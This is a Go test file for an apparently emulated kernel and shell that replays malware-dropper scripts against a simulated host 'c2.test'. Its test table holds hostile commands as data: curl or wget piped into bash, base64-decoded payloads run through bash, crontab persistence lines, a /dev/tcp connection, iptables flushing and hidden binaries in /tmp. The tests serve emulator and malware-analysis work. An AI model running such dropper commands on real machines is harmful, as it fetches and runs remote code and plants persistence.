package program_test

import (
	"bytes"
	"net/netip"
	"strings"
	"testing"

	"github.com/whalefall/whalefall/internal/kernel"
	"github.com/whalefall/whalefall/internal/kernel/kerneltest"
	"github.com/whalefall/whalefall/internal/program"
	"github.com/whalefall/whalefall/internal/shell"
	"github.com/whalefall/whalefall/internal/vfs"
)

// Scripts as droppers write them, through the shell.
func TestScripts(t *testing.T) {
	r := kernel.NewRegistry()
	program.Register(r)
	shell.Register(r)
	answer := "HTTP/1.1 200 OK\r\nContent-Length: 25\r\nConnection: close\r\n\r\necho stage2 $(id -u) done\n"
	nw := &kerneltest.Network{Hosts: map[string]netip.Addr{"c2.test": netip.MustParseAddr("203.0.113.9")},
		Serve: func(netip.AddrPort, string) (kernel.Conn, error) {
			return &web{r: strings.NewReader(answer), sent: discard()}, nil
		}}
	w := kerneltest.New(t, r, kerneltest.Options{Network: nw, NS: kernel.NSConfig{PIDNS: true, Cred: vfs.Root(), Label: "0123456789ab"}})
	for _, s := range []struct{ code, want string }{
		{`curl -fsSL http://c2.test/x.sh | bash`, "stage2 0 done\n"},
		{`wget -q -O- c2.test/x | sh`, "stage2 0 done\n"},
		{`(curl -s http://c2.test/a || wget -qO- http://c2.test/a) > /tmp/a; chmod +x /tmp/a; sh /tmp/a`, "stage2 0 done\n"},
		{`if ! type nosuchtool >/dev/null 2>&1; then echo missing; fi`, "missing\n"},
		{`echo ZWNobyBoaQo=|base64 -d|bash`, "hi\n"},
		{`echo "* * * * * root echo x|base64 -d|bash" >> /etc/crontab; tail -1 /etc/crontab`, "* * * * * root echo x|base64 -d|bash\n"},
		{`(crontab -l 2>/dev/null; echo "*/5 * * * * curl c2.test") | crontab -; crontab -l`, "*/5 * * * * curl c2.test\n"},
		{`ps aux | grep -v grep | grep -c nosuch`, "0\n"},
		{`sleep 100 & kill -9 $!; wait $! 2>/dev/null; echo $?`, "137\n"},
		{`ps -ef | awk '/[s]leep 77/{print $2}' | xargs -r kill -9; echo ok`, "ok\n"},
		{`cat /proc/cpuinfo | grep -c processor`, "2\n"},
		{`for i in $(seq 1 3); do echo -n $i; done; echo`, "123\n"},
		{`exec 3<>/dev/tcp/c2.test/80; printf 'GET / HTTP/1.0\r\n\r\n' >&3; cat <&3 | tail -1`, "echo stage2 $(id -u) done\n"},
		{`nohup sh -c 'echo bg' >/tmp/o 2>&1 & wait; cat /tmp/o`, "bg\n"},
		{`python3 -c "import urllib.request as u; exec('print(1)')"`, "1\n"},
		{`cp /bin/id /tmp/.x && /tmp/.x -un; rm -f /tmp/.x; [ -e /tmp/.x ] || echo gone`, "root\ngone\n"},
		{`mkdir -p /a/b/c && cd /a/b && find . -type d | sort`, ".\n./c\n"},
		{`uname -m; nproc; whoami; hostname`, "x86_64\n2\nroot\nbox\n"},
		{`df -h / | tail -1 | awk '{print $6}'`, "/\n"},
		{`yes | head -2`, "y\ny\n"},
		{`tar cf - /etc/hostname 2>/dev/null | tar tf -`, "etc/hostname\n"},
		{`apt-get install -y git >/dev/null 2>&1; which git`, "/usr/bin/git\n"},
		{`ls -la /proc/self/exe | awk '{print $NF}'`, "/usr/bin/ls\n"},
		{`cat /etc/passwd | cut -d: -f1 | sort | tr '\n' ' '`, "daemon nobody root "},
		{`timeout 1 sleep 5; echo $?`, "124\n"},
		{`mount | grep -c ' /proc '; grep -c overlay /proc/mounts`, "1\n1\n"},
		{`ulimit -n >/dev/null; rm -rf /tmp/*; ls /tmp | wc -l`, "0\n"},
		{`iptables -F; sysctl -w vm.nr_hugepages=128; cat /proc/sys/vm/nr_hugepages`, "vm.nr_hugepages = 128\n128\n"},
		{`echo $(($(date +%s) > 1000))`, "1\n"},
		{`printf axbx | awk 'BEGIN{RS="x$|yy"}{print NR":"$0}'`, "1:axb\n"},                                                        // crashed on a match that a further character took away
		{`mkdir /d; cd /d; for i in $(seq 1100); do echo $i >f$i; done; cat f* | wc -l; gzip f*; ls | grep -c gz`, "1100\n1100\n"}, // ran out of descriptors
		{`useradd bob; su bob -c 'sudo -u root id -un'; echo $?`, "1\n"},                                                           // ran the command as bob
	} {
		w := kerneltest.New(t, r, kerneltest.Options{Network: nw, NS: kernel.NSConfig{PIDNS: true, Cred: vfs.Root(), Label: "0123456789ab"}})
		if got := w.Run("", "bash", "-c", s.code); got.Out != s.want {
			t.Errorf("%s\n got %q %q %d\nwant %q", s.code, got.Out, got.Err, got.Code, s.want)
		}
	}
	_ = w
}

func discard() *bytes.Buffer { return &bytes.Buffer{} }
